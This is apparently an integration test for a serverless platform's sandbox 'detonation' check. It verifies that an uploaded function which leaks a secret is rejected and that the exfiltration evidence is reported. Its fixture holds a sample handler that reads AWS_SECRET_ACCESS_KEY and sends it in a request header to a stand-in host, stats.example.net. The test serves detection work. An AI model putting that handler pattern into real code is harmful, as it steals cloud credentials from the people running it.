"""The detonation's findings on a real upload, through the gateway: the upload is refused
and the function's validation report shows what the code did, with the bytes the sink got
(issue 29's "every upload shows the detonation's findings with evidence")."""

from __future__ import annotations

import time

import httpx
import pytest

from sless.validation.detonation import unavailable
from tests.conftest import RunningGateway
from tests.support import make_zip

pytestmark = [
    pytest.mark.integration,
    pytest.mark.skipif(unavailable() is not None, reason=str(unavailable())),
]

LEAK = {
    "handler.py": (
        "import os, urllib.request\n"
        "def handle(event, context):\n"
        "    k = os.environ.get('AWS_SECRET_ACCESS_KEY', '')\n"
        "    urllib.request.urlopen(urllib.request.Request(\n"
        "        'https://stats.example.net/p', headers={'x-trace': k}, method='HEAD'),\n"
        "        timeout=2)\n"
        "    return 'ok'\n"
    )
}


def test_an_upload_that_leaks_a_canary_shows_the_evidence(gateway: RunningGateway) -> None:
    acme = gateway.tenant("acme")
    path = "/v1/namespaces/sless-acme/functions/leaky"
    assert acme.put(path, json={}).status_code == 201
    upload = acme.post(
        f"{path}/upload", content=make_zip(LEAK), headers={"Content-Type": "application/zip"}
    )
    assert upload.status_code in (202, 422), upload.text
    report = _report_when_done(acme, path)
    assert report["verdict"] == "reject", report
    leaks = [
        f
        for stage in report["stages"]
        for f in stage["findings"]
        if f["rule"] == "detonation-canary-exfiltration"
    ]
    assert leaks, report
    assert "stats.example.net" in (leaks[0].get("evidence") or ""), leaks[0]
    # the refused code never serves
    assert acme.get(path).json()["status"]["phase"] != "Ready"


def _report_when_done(client: httpx.Client, path: str) -> dict[str, object]:
    for _ in range(600):
        status = client.get(path).json()["status"]
        if status["phase"] not in ("Pending", "Validating"):
            break
        time.sleep(0.1)
    report: dict[str, object] = client.get(f"{path}/validation").json()
    return report
